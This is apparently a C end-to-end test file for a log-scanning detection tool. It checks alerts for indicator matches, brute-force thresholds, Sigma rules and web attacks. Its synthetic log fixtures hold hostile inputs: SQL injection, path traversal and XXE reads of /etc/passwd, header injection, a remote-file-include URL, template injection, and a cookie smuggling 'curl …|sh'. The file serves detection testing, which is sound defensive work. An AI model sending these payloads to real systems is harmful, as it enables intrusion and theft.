/* End-to-end tests: run the real fukurou binary (FK_BIN) on files written here and
 * check its exact output and exit status. */
#include "e2e.h"

TestSuite(e2e, .init = setup, .fini = teardown, .timeout = 180);

static const char access_log[] =
    "192.0.2.10 - - [14/May/2024:10:00:00 +0900] \"GET / HTTP/1.1\" 200 100 \"-\" \"Mozilla/5.0\"\n"
    "203.0.113.66 - - [14/May/2024:10:00:01 +0900] \"POST /api/beacon HTTP/1.1\" 204 0 \"-\" "
    "\"python-requests/2.31\"\n"
    "192.0.2.11 - - [14/May/2024:10:00:02 +0900] \"GET /login HTTP/1.1\" 200 5 "
    "\"http://x.phish.example/m\" \"Mozilla/5.0\"\n"
    "this line is not an access log line\n"
    "2001:db8::66 - - [14/May/2024:10:00:03 +0900] \"GET /x HTTP/1.1\" 200 5 \"-\" \"-\"\n";

static const char iocs[] =
    "# test list\n203.0.113.66 # C2\nphish.example\n2001:db8::/64 # v6 range\n";

Test(e2e, indicator_alerts_are_exact_in_json)
{
    write_file("access.log", access_log);
    write_file("iocs.txt", iocs);
    result r;
    run(&r, "scan --output json --ioc iocs.txt access.log");
    cr_assert_eq(r.status, 1, "alerts found: exit 1 (stderr: %s)", r.err);
    const char *expected = "{\"engine\":\"ioc\",\"rule\":\"iocs.txt\",\"title\":\"Indicator match: "
                           "ipv4\",\"severity\":\"high\","
                           "\"first\":\"2024-05-14T01:00:01.000Z\",\"last\":\"2024-05-14T01:00:01."
                           "000Z\",\"count\":1,\"file\":\"access.log\","
                           "\"line\":2,\"field\":\"src_ip\",\"value\":\"203.0.113.66\","
                           "\"indicator\":\"203.0.113.66\",\"indicator_type\":\"ipv4\","
                           "\"indicator_label\":\"C2\",\"indicator_line\":2}\n"
                           "{\"engine\":\"ioc\",\"rule\":\"iocs.txt\",\"title\":\"Indicator match: "
                           "domain\",\"severity\":\"high\","
                           "\"first\":\"2024-05-14T01:00:02.000Z\",\"last\":\"2024-05-14T01:00:02."
                           "000Z\",\"count\":1,\"file\":\"access.log\","
                           "\"line\":3,\"field\":\"referrer\",\"value\":\"http://x.phish.example/"
                           "m\",\"indicator\":\"phish.example\","
                           "\"indicator_type\":\"domain\",\"indicator_line\":3}\n"
                           "{\"engine\":\"ioc\",\"rule\":\"iocs.txt\",\"title\":\"Indicator match: "
                           "ipv6-cidr\",\"severity\":\"high\","
                           "\"first\":\"2024-05-14T01:00:03.000Z\",\"last\":\"2024-05-14T01:00:03."
                           "000Z\",\"count\":1,\"file\":\"access.log\","
                           "\"line\":5,\"field\":\"src_ip\",\"value\":\"2001:db8::66\","
                           "\"indicator\":\"2001:db8::/64\",\"indicator_type\":\"ipv6-cidr\","
                           "\"indicator_label\":\"v6 range\",\"indicator_line\":4}\n";
    cr_assert_str_eq(r.out, expected);
    cr_assert_not_null(strstr(r.err, "access.log:4: malformed line skipped"), "%s", r.err);
    cr_assert_not_null(strstr(r.err, "5 lines, 4 events, 1 malformed, 3 alerts"), "%s", r.err);
}

Test(e2e, strict_stops_at_malformed_line)
{
    write_file("access.log", access_log);
    result r;
    run(&r, "scan --strict --output json access.log");
    cr_assert_eq(r.status, 2);
    cr_assert_not_null(strstr(r.err, "access.log:4: malformed line"), "%s", r.err);
}

Test(e2e, no_alerts_exits_zero_and_csv_has_header_only_when_alerts)
{
    write_file("clean.log", "192.0.2.10 - - [14/May/2024:10:00:00 +0900] \"GET / HTTP/1.1\" 200 "
                            "100 \"-\" \"Mozilla/5.0\"\n");
    write_file("iocs.txt", iocs);
    result r;
    run(&r, "scan --output csv --ioc iocs.txt clean.log");
    cr_assert_eq(r.status, 0, "%s", r.err);
    cr_assert_str_eq(r.out, "");
}

Test(e2e, csv_output_quotes_fields)
{
    write_file("access.log", access_log);
    write_file("iocs.txt", "phish.example # phishing, \"kit\"\n");
    result r;
    run(&r, "scan --output csv --ioc iocs.txt access.log");
    cr_assert_eq(r.status, 1);
    cr_assert_str_eq(
        r.out,
        "severity,engine,rule,title,first,last,count,file,line,field,value,group,indicator,"
        "indicator_type,indicator_id,indicator_label\n"
        "\"high\",\"ioc\",\"iocs.txt\",\"Indicator match: domain\",\"2024-05-14T01:00:02.000Z\","
        "\"2024-05-14T01:00:02.000Z\",\"1\",\"access.log\",\"3\",\"referrer\",\"http://"
        "x.phish.example/m\",\"\","
        "\"phish.example\",\"domain\",\"\",\"phishing, \"\"kit\"\"\"\n");
}

Test(e2e, threshold_rules_over_syslog_from_stdin_gz)
{
    char content[8192] = "";
    for (int i = 0; i < 6; i++) {
        char line[256];
        snprintf(line, sizeof line,
                 "Mar  7 09:15:%02d bastion sshd[41%02d]: Failed password for invalid user u%d "
                 "from 198.51.100.9 port %d ssh2\n",
                 i * 5, i, i, 50000 + i);
        strcat(content, line);
    }
    strcat(content, "Mar  7 09:16:00 bastion sshd[4200]: Accepted password for root from 192.0.2.1 "
                    "port 1 ssh2\n");
    write_file("auth.log", content);
    write_file("rules.yml",
               "rules:\n  - id: brute\n    title: SSH brute force\n    severity: critical\n"
               "    match: {kind: auth, outcome: failure}\n    group_by: [src_ip]\n"
               "    threshold: 5\n    window: 1m\n");
    result r;
    char cmd[512];
    snprintf(cmd, sizeof cmd, "cd %s && gzip -k auth.log", dir);
    cr_assert_eq(system(cmd), 0);
    run(&r, "scan --output json --year 2024 --rules rules.yml - < auth.log.gz");
    cr_assert_eq(r.status, 1, "%s", r.err);
    cr_assert_str_eq(
        r.out,
        "{\"engine\":\"threshold\",\"rule\":\"brute\",\"title\":\"SSH brute "
        "force\",\"severity\":\"critical\","
        "\"first\":\"2024-03-07T09:15:00.000Z\",\"last\":\"2024-03-07T09:15:25.000Z\",\"count\":6,"
        "\"file\":\"(stdin)\",\"line\":5,\"field\":\"src_ip\",\"value\":\"198.51.100.9\",\"group\":"
        "\"src_ip=198.51.100.9\"}\n");
}

Test(e2e, summary_counts_by_rule_source_and_target)
{
    write_file("access.log", access_log);
    write_file("iocs.txt", iocs);
    result r;
    run(&r, "scan --output table --summary --ioc iocs.txt access.log");
    cr_assert_eq(r.status, 1);
    cr_assert_not_null(strstr(r.out, "Summary: 3 alerts (critical 0, high 3"), "%s", r.out);
    cr_assert_not_null(strstr(r.out, "1  203.0.113.66"), "%s", r.out);
    cr_assert_not_null(strstr(r.out, "1  /api/beacon"), "%s", r.out);
    cr_assert_null(strstr(r.out, "\033["), "no colour when stdout is not a terminal");
}

Test(e2e, json_summary_line_and_aggregation)
{
    char log[4096] = "";
    for (int i = 0; i < 4; i++)
        strcat(
            log,
            "203.0.113.66 - - [14/May/2024:10:00:01 +0900] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\"\n");
    write_file("a.log", log);
    write_file("iocs.txt", iocs);
    result r;
    run(&r, "scan --output json --aggregate --summary --ioc iocs.txt a.log");
    cr_assert_eq(r.status, 1);
    cr_assert_not_null(strstr(r.out, "\"count\":4"), "%s", r.out);
    cr_assert_not_null(strstr(r.out, "{\"summary\":{\"alerts\":1,"), "%s", r.out);
}

Test(e2e, formats_detected_per_file_in_one_run)
{
    write_file("iis.log",
               "#Software: Microsoft Internet Information Services 10.0\n"
               "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
               "cs(User-Agent) sc-status\n"
               "2024-05-14 01:00:00 10.0.0.1 GET /owa - 443 - 203.0.113.66 Mozilla/5.0 200\n");
    write_file("events.json", "{\n  \"Event\": {\n    \"System\": {\"EventID\": 3, \"Channel\": "
                              "\"Microsoft-Windows-Sysmon/Operational\"},\n"
                              "    \"EventData\": {\"DestinationIp\": \"203.0.113.66\", \"Image\": "
                              "\"C:\\\\a.exe\"}\n  }\n}\n");
    write_file("iocs.txt", iocs);
    result r;
    run(&r, "scan --output json --ioc iocs.txt iis.log events.json");
    cr_assert_eq(r.status, 1, "%s", r.err);
    cr_assert_not_null(strstr(r.out, "\"file\":\"iis.log\",\"line\":3,\"field\":\"src_ip\""), "%s",
                       r.out);
    cr_assert_not_null(strstr(r.out, "\"file\":\"events.json\",\"line\":1,\"field\":\"dst_ip\""),
                       "%s", r.out);
}

Test(e2e, errors_exit_two_and_name_file_and_line)
{
    write_file("access.log", access_log);
    write_file("bad-iocs.txt", "192.0.2.1\nnot an indicator\n");
    write_file("bad-rules.yml", "rules:\n  - id: x\n    threshold: 5\n    window: forever\n");
    result r;
    run(&r, "scan --ioc bad-iocs.txt access.log");
    cr_assert_eq(r.status, 2);
    cr_assert_not_null(strstr(r.err, "bad-iocs.txt:2:"), "%s", r.err);
    run(&r, "scan --rules bad-rules.yml access.log");
    cr_assert_eq(r.status, 2);
    cr_assert_not_null(strstr(r.err, "bad-rules.yml:4: window"), "%s", r.err);
    run(&r, "scan missing.log");
    cr_assert_eq(r.status, 2);
    cr_assert_not_null(strstr(r.err, "missing.log: cannot open"), "%s", r.err);
    run(&r, "scan --output xml access.log");
    cr_assert_eq(r.status, 2);
    write_file("junk.txt", "hello\nworld\n");
    run(&r, "scan junk.txt");
    cr_assert_eq(r.status, 2);
    cr_assert_not_null(strstr(r.err, "cannot recognise the log format"), "%s", r.err);
}

Test(e2e, custom_log_format_from_the_command_line)
{
    write_file("vhost.log", "shop.example:443 203.0.113.66 - - [14/May/2024:10:00:01 +0900] \"GET "
                            "/cart HTTP/2.0\" 200 10 \"-\" \"ua\"\n");
    write_file("iocs.txt", iocs);
    result r;
    run(&r, "scan --output json --log-format vhost_combined --ioc iocs.txt vhost.log");
    cr_assert_eq(r.status, 1, "%s", r.err);
    cr_assert_not_null(strstr(r.out, "\"value\":\"203.0.113.66\""), "%s", r.out);
    run(&r, "scan --log-format '%h %Q' vhost.log");
    cr_assert_eq(r.status, 2);
    cr_assert_not_null(strstr(r.err, "unknown directive"), "%s", r.err);
}

Test(e2e, demo_set_produces_the_expected_detections)
{
    result r;
    run(&r, "demo demo");
    cr_assert_eq(r.status, 0, "%s", r.err);
    const char *rules = getenv("FK_RULES");
    cr_assert_not_null(rules);
    char args[1024];
    snprintf(
        args, sizeof args,
        "scan --output json --aggregate --ioc demo/indicators.txt --ioc demo/indicators.stix.json "
        "--rules %s demo/access.log demo/auth.log demo/sysmon.json",
        rules);
    run(&r, args);
    cr_assert_eq(r.status, 1, "%s", r.err);
    cr_assert_not_null(strstr(r.out, "\"rule\":\"ssh-brute-force\""));
    cr_assert_not_null(strstr(r.out, "\"rule\":\"password-spraying\""));
    cr_assert_not_null(strstr(r.out, "\"rule\":\"web-scanning\""));
    cr_assert_not_null(strstr(r.out, "\"indicator_type\":\"sha256\""));
    cr_assert_not_null(strstr(r.out, "\"indicator_type\":\"ipv4-cidr\""));
}

/* Web signatures on by default, selectable by family; an injection answered with an
 * unusual size is called out; one source hammering one URL trips the shipped rule. */
Test(e2e, web_attacks_families_success_and_repetition)
{
    FILE *f = fopen(path_of("web.log"), "w");
    cr_assert_not_null(f);
    fprintf(f, "203.0.113.9 - - [21/Nov/2026:10:00:01 +0900] \"GET "
               "/item.php?id=1%%20UnIoN%%2F**%%2FSeLeCt%%20user,pass%%20from%%20users-- HTTP/1.1\" "
               "200 48211 \"-\" \"Mozilla/5.0\"\n");
    fprintf(f, "203.0.113.9 - - [21/Nov/2026:10:00:02 +0900] \"GET "
               "/view?file=..%%252f..%%252f..%%252fetc%%252fpasswd HTTP/1.1\" 404 210 \"-\" "
               "\"sqlmap/1.7.2#stable (https://sqlmap.org)\"\n");
    for (int i = 0; i < 20; i++)
        fprintf(f,
                "198.51.100.%d - - [21/Nov/2026:10:01:%02d +0900] \"GET /item.php?id=%d "
                "HTTP/1.1\" 200 %d \"-\" \"Mozilla/5.0\"\n",
                i, i, i, 1180 + i * 7);
    for (int i = 0; i < 320; i++)
        fprintf(f,
                "192.0.2.77 - - [21/Nov/2026:10:02:%02d +0900] \"GET /api/stock HTTP/1.1\" 200 "
                "90 \"-\" \"curl/8.0\"\n",
                i % 50);
    fclose(f);
    result r;
    char args[1024];
    snprintf(args, sizeof args, "scan --output json --rules %s web.log", getenv("FK_RULES"));
    run(&r, args);
    cr_assert_eq(r.status, 1, "%s", r.err);
    cr_assert_not_null(strstr(r.out, "\"rule\":\"sqli-union-select\""), "%s", r.out);
    cr_assert_not_null(strstr(r.out, "\"family\":\"lfi\""), "%s", r.out);
    cr_assert_not_null(strstr(r.out, "\"family\":\"scanner\""), "%s", r.out);
    cr_assert_not_null(strstr(r.out, "etc/passwd"), "decoded evidence: %s", r.out);
    const char *ans = strstr(r.out, "\"rule\":\"web-attack-answered\"");
    cr_assert_not_null(ans, "%s", r.out);
    cr_assert_null(strstr(ans + 1, "\"rule\":\"web-attack-answered\""), "only the 200: %s", r.out);
    cr_assert_not_null(strstr(r.out, "\"rule\":\"web-repeated-request\""), "%s", r.out);

    run(&r, "scan --output json --web-families lfi web.log");
    cr_assert_eq(r.status, 1, "%s", r.err);
    cr_assert_null(strstr(r.out, "\"family\":\"sqli\""), "%s", r.out);
    cr_assert_not_null(strstr(r.out, "\"family\":\"lfi\""), "%s", r.out);

    /* the shipped threshold rules are on without --rules, as the signatures are */
    run(&r, "scan --output json --no-web web.log");
    cr_assert_eq(r.status, 1, "%s", r.err);
    cr_assert_not_null(strstr(r.out, "\"rule\":\"web-repeated-request\""), "%s", r.out);
    cr_assert_null(strstr(r.out, "\"engine\":\"web\""), "%s", r.out);
    run(&r, "scan --output json --no-web --no-rules web.log");
    cr_assert_eq(r.status, 0, "%s", r.err);
    cr_assert_str_eq(r.out, "");

    run(&r, "scan --web-families sqli,nosuch web.log");
    cr_assert_eq(r.status, 2);
    cr_assert_not_null(strstr(r.err, "nosuch"), "%s", r.err);
}

static const char sigma_rules[] =
    "title: Immutable attribute removed\n"
    "id: 0c3a1e2b-0000-4000-8000-000000000001\n"
    "level: medium\n"
    "tags: [attack.defense-evasion, attack.t1222.002]\n"
    "logsource: {product: linux, service: auditd}\n"
    "detection:\n  sel: {type: EXECVE, a0: chattr, a1|contains: '-i'}\n  condition: sel\n"
    "---\n"
    "title: Whoami run\n"
    "id: 0c3a1e2b-0000-4000-8000-000000000002\n"
    "level: low\n"
    "tags: [attack.discovery, attack.t1033]\n"
    "logsource: {product: windows, category: process_creation}\n"
    "detection:\n  sel: {Image|endswith: '\\whoami.exe'}\n  condition: sel\n";

Test(e2e, sigma_rules_over_audit_records_and_windows_events)
{
    write_file("rules.yml", sigma_rules);
    write_file("audit.log", "type=SYSCALL msg=audit(1700000000.123:42): syscall=59 success=yes "
                            "ppid=1 pid=2 comm=\"chattr\" exe=\"/usr/bin/chattr\"\n"
                            "type=EXECVE msg=audit(1700000000.123:42): argc=3 a0=\"chattr\" "
                            "a1=\"-i\" a2=\"/etc/passwd\"\n");
    write_file("events.json",
               "{\"Event\":{\"System\":{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/"
               "Operational\",\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2024-05-14T01:00:"
               "00.000Z\"}}},\"EventData\":{\"Image\":\"C:\\\\Windows\\\\System32\\\\whoami.exe\","
               "\"CommandLine\":\"whoami /priv\"}}}\n");
    const char *audit_alert =
        "{\"engine\":\"sigma\",\"rule\":\"0c3a1e2b-0000-4000-8000-000000000001\",\"title\":"
        "\"Immutable attribute removed\",\"severity\":\"medium\",\"first\":\"2023-11-14T22:13:20."
        "123Z\",\"last\":\"2023-11-14T22:13:20.123Z\",\"count\":1,\"file\":\"audit.log\",\"line\":"
        "2,\"field\":\"type,a0,a1\",\"value\":\"type=EXECVE | a0=chattr | a1=-i\",\"tags\":"
        "\"attack.defense-evasion,attack.t1222.002\"}\n";
    const char *windows_alert =
        "{\"engine\":\"sigma\",\"rule\":\"0c3a1e2b-0000-4000-8000-000000000002\",\"title\":"
        "\"Whoami run\",\"severity\":\"low\",\"first\":\"2024-05-14T01:00:00.000Z\",\"last\":"
        "\"2024-05-14T01:00:00.000Z\",\"count\":1,\"file\":\"events.json\",\"line\":1,\"field\":"
        "\"Image\",\"value\":\"Image=C:\\\\Windows\\\\System32\\\\whoami.exe\",\"tags\":"
        "\"attack.discovery,attack.t1033\"}\n";
    result r;
    run(&r, "scan --output json --sigma rules.yml audit.log events.json");
    cr_assert_eq(r.status, 1, "%s", r.err);
    char both[2048];
    snprintf(both, sizeof both, "%s%s", audit_alert, windows_alert);
    cr_assert_str_eq(r.out, both);
    /* the low rule is left out of the report */
    run(&r, "scan --output json --sigma-level medium --sigma rules.yml audit.log events.json");
    cr_assert_eq(r.status, 1, "%s", r.err);
    cr_assert_str_eq(r.out, audit_alert);
    /* which logsource entries serve the rules */
    run(&r, "sigma check --coverage rules.yml");
    cr_assert_eq(r.status, 0, "%s", r.err);
    cr_assert_not_null(strstr(r.out, "served: product=linux category=- service=auditd: 1 rules\n"),
                       "%s", r.out);
    cr_assert_not_null(
        strstr(r.out, "served: product=windows category=process_creation service=-: 1 rules\n"),
        "%s", r.out);
    cr_assert_not_null(strstr(r.out, "\n2 loaded, 0 unsupported\n"), "%s", r.out);
    run(&r, "scan --sigma-level bogus --sigma rules.yml audit.log");
    cr_assert_eq(r.status, 2);
    cr_assert_not_null(strstr(r.err, "--sigma-level: expected informational"), "%s", r.err);
}

/* Probing for software the site does not run (issue 12): WordPress logins asked for by
 * many addresses, and one address walking through the admin pages of three products
 * (as one did in a real 2015 access log: /wp-login.php, /administrator/, /admin.php),
 * all answered 404, are low-severity alerts of their own; the same paths answered 200
 * (the site runs WordPress), 404s for the site's own pages, and a browser loading a
 * page's pictures and styles from a WordPress folder the site no longer has are not. */
Test(e2e, probing_for_absent_applications_is_reported)
{
    FILE *f = fopen(path_of("probe.log"), "w");
    cr_assert_not_null(f);
    int t = 0;
    for (int i = 1; i <= 6; i++, t++)
        fprintf(f,
                "198.51.100.%d - - [01/May/2024:10:00:%02d +0900] \"GET /wp-login.php HTTP/1.1\" "
                "404 196 \"-\" \"Mozilla/5.0\"\n",
                i, t);
    const char *apps[] = {"/administrator/", "/phpmyadmin/index.php", "/admin.php"};
    for (int i = 0; i < 3; i++, t++)
        fprintf(f,
                "203.0.113.9 - - [01/May/2024:10:00:%02d +0900] \"GET %s HTTP/1.1\" 404 196 \"-\" "
                "\"Mozilla/5.0\"\n",
                t, apps[i]);
    /* a WordPress site's own logins, and missing pages of the site itself */
    for (int i = 1; i <= 8; i++, t++)
        fprintf(f,
                "192.0.2.%d - - [01/May/2024:10:00:%02d +0900] \"GET /blog/wp-login.php HTTP/1.1\" "
                "200 4096 \"-\" \"Mozilla/5.0\"\n",
                i, t);
    for (int i = 1; i <= 8; i++, t++)
        fprintf(f,
                "192.0.2.%d - - [01/May/2024:10:00:%02d +0900] \"GET /news/2019/old-%d.html "
                "HTTP/1.1\" 404 196 \"-\" \"Mozilla/5.0\"\n",
                i, t, i);
    const char *assets[] = {"uploads/2014/05/a.jpg", "uploads/2014/05/b.png",
                            "themes/x/style.css",    "themes/x/app.js",
                            "uploads/c.gif",         "themes/x/font.woff2"};
    for (int i = 0; i < 6; i++, t++)
        fprintf(f,
                "192.0.2.77 - - [01/May/2024:10:00:%02d +0900] \"GET /wp-content/%s HTTP/1.1\" "
                "404 196 \"https://www.example.org/\" \"Mozilla/5.0\"\n",
                t, assets[i]);
    fclose(f);
    const char *rules = getenv("FK_RULES");
    cr_assert_not_null(rules);
    char args[1024];
    snprintf(args, sizeof args, "scan --output json --no-web --rules %s probe.log", rules);
    result r;
    run(&r, args);
    cr_assert_eq(r.status, 1, "%s", r.err);
    const char *one = strstr(r.out, "\"rule\":\"web-probe-known-apps\"");
    const char *many = strstr(r.out, "\"rule\":\"web-probe-known-apps-distributed\"");
    cr_assert_not_null(one, "%s", r.out);
    cr_assert_not_null(many, "%s", r.out);
    cr_assert_not_null(strstr(one, "\"severity\":\"low\""), "%s", r.out);
    cr_assert_not_null(strstr(r.out, "\"group\":\"src_ip=203.0.113.9\""), "%s", r.out);
    cr_assert_null(strstr(r.out, "192.0.2.77"), "a page's pictures are no probe: %s", r.out);
    cr_assert_not_null(strstr(many, "/wp-login.php"), "the alert names the path: %s", r.out);
    int alerts = 0;
    for (const char *p = r.out; (p = strstr(p, "\"engine\":\"threshold\"")); p++)
        alerts++;
    cr_assert_eq(alerts, 2, "only the two probes, not the site's own pages: %s", r.out);
}

/* The structural readers through the binary with no signatures at all: HTTP's grammar
 * (a version that does not exist, a header smuggled through a parameter), a parameter
 * read as a pair, template code; an everyday request stays quiet. */
Test(e2e, structural_readers_without_signatures)
{
    FILE *f = fopen(path_of("empty-web.yml"), "w");
    cr_assert_not_null(f);
    fputs("signatures: []\n", f);
    fclose(f);
    f = fopen(path_of("readers.log"), "w");
    cr_assert_not_null(f);
    fputs("203.0.113.9 - - [21/Nov/2026:10:00:01 +0900] \"GET /index.php HTTP/1.7\" 200 5 \"-\" "
          "\"Mozilla/5.0\"\n",
          f);
    fputs("203.0.113.9 - - [21/Nov/2026:10:00:02 +0900] \"GET /index.php?lang=en%0d%0aSet-Cookie:"
          "%20sid=1 HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n",
          f);
    fputs("203.0.113.9 - - [21/Nov/2026:10:00:03 +0900] \"GET /index.php?page=http%3A%2F%2F"
          "evil.example%2Fshell HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n",
          f);
    fputs("203.0.113.9 - - [21/Nov/2026:10:00:04 +0900] \"GET /search?q=%7B%7Bconfig.items()%7D%7D"
          " HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n",
          f);
    fputs("198.51.100.7 - - [21/Nov/2026:10:00:05 +0900] \"GET /search?q=%u6771%u4EAC&utm_campaign="
          "%7B%7Bcampaign.name%7D%7D HTTP/1.1\" 200 5 \"https://www.google.co.jp/\" "
          "\"Mozilla/5.0\"\n",
          f);
    fclose(f);
    result r;
    run(&r, "scan --output json --no-rules --web-signatures empty-web.yml readers.log");
    cr_assert_eq(r.status, 1, "%s", r.err);
    cr_assert_not_null(strstr(r.out, "\"rule\":\"struct-protocol\""), "%s", r.out);
    cr_assert_not_null(strstr(r.out, "\"field\":\"protocol\",\"value\":\"HTTP/1.7\""), "%s", r.out);
    cr_assert_not_null(strstr(r.out, "\"line\":2,\"field\":\"query\""), "%s", r.out);
    /* what the reader saw goes with the alert */
    cr_assert_not_null(strstr(r.out, "\"reason\":\"HTTP version that does not exist\""), "%s",
                       r.out);
    cr_assert_not_null(strstr(r.out, "\"rule\":\"struct-rfi\""), "%s", r.out);
    cr_assert_not_null(strstr(r.out, "\"rule\":\"struct-script\""), "%s", r.out);
    cr_assert_null(strstr(r.out, "\"line\":5"), "the everyday request alarmed: %s", r.out);
}

/* A WAF's audit log and an ECS log keep the body and the Cookie header: the real binary
 * reads a JSON body's members, an XML body's text and the cookies, and withholds a
 * password from what it shows. */
Test(e2e, request_bodies_and_cookies_in_json_logs)
{
    FILE *f = fopen(path_of("waf.json"), "w");
    cr_assert_not_null(f);
    fputs(
        "{\"transaction\":{\"client_ip\":\"203.0.113.9\",\"time_stamp\":\"Sat Nov 21 10:00:01 "
        "2026\","
        "\"request\":{\"method\":\"POST\",\"uri\":\"/api/login\",\"headers\":{\"Content-Type\":"
        "\"application/json\"},\"body\":\"{\\\"user\\\":\\\"admin' or '1'='1\\\",\\\"password\\\":"
        "\\\"hunter2\\\"}\"},\"response\":{\"http_code\":200}}}\n",
        f);
    fputs(
        "{\"@timestamp\":\"2026-11-21T10:00:02Z\",\"source\":{\"ip\":\"203.0.113.9\"},\"url\":"
        "{\"original\":\"/ws\"},\"http\":{\"request\":{\"method\":\"POST\",\"body\":{\"content\":"
        "\"<?xml version=\\\"1.0\\\"?><!DOCTYPE r [<!ENTITY x SYSTEM \\\"file:///etc/passwd\\\">]>"
        "<r>&x;</r>\"}}}}\n",
        f);
    fputs("{\"@timestamp\":\"2026-11-21T10:00:03Z\",\"source\":{\"ip\":\"203.0.113.9\"},\"url\":"
          "{\"original\":\"/\"},\"http\":{\"request\":{\"method\":\"GET\",\"headers\":{\"cookie\":"
          "\"lang=ja; theme=;curl http://203.0.113.9/x|sh\"}}}}\n",
          f);
    fputs(
        "{\"@timestamp\":\"2026-11-21T10:00:04Z\",\"source\":{\"ip\":\"198.51.100.7\"},\"url\":"
        "{\"original\":\"/comments\"},\"http\":{\"request\":{\"method\":\"POST\",\"body\":{"
        "\"content\":\"author=Zo%C3%AB&comment=Great+post%2C+thanks%21\"},\"headers\":{\"cookie\":"
        "\"_ga=GA1.2.1.1700000000; PHPSESSID=abcdef0123456789abcdef0123\"}}}}\n",
        f);
    fclose(f);
    result r;
    run(&r, "scan --output json --no-rules waf.json");
    cr_assert_eq(r.status, 1, "%s", r.err);
    cr_assert_not_null(strstr(r.out, "\"line\":1,\"field\":\"body\""), "%s", r.out);
    cr_assert_not_null(strstr(r.out, "\"family\":\"sqli\""), "%s", r.out);
    cr_assert_null(strstr(r.out, "hunter2"), "a password in an alert: %s", r.out);
    cr_assert_not_null(strstr(r.out, "\"rule\":\"struct-xxe\""), "%s", r.out);
    cr_assert_not_null(strstr(r.out, "\"line\":3,\"field\":\"cookie\""), "%s", r.out);
    cr_assert_null(strstr(r.out, "\"line\":4"), "the everyday request alarmed: %s", r.out);
}
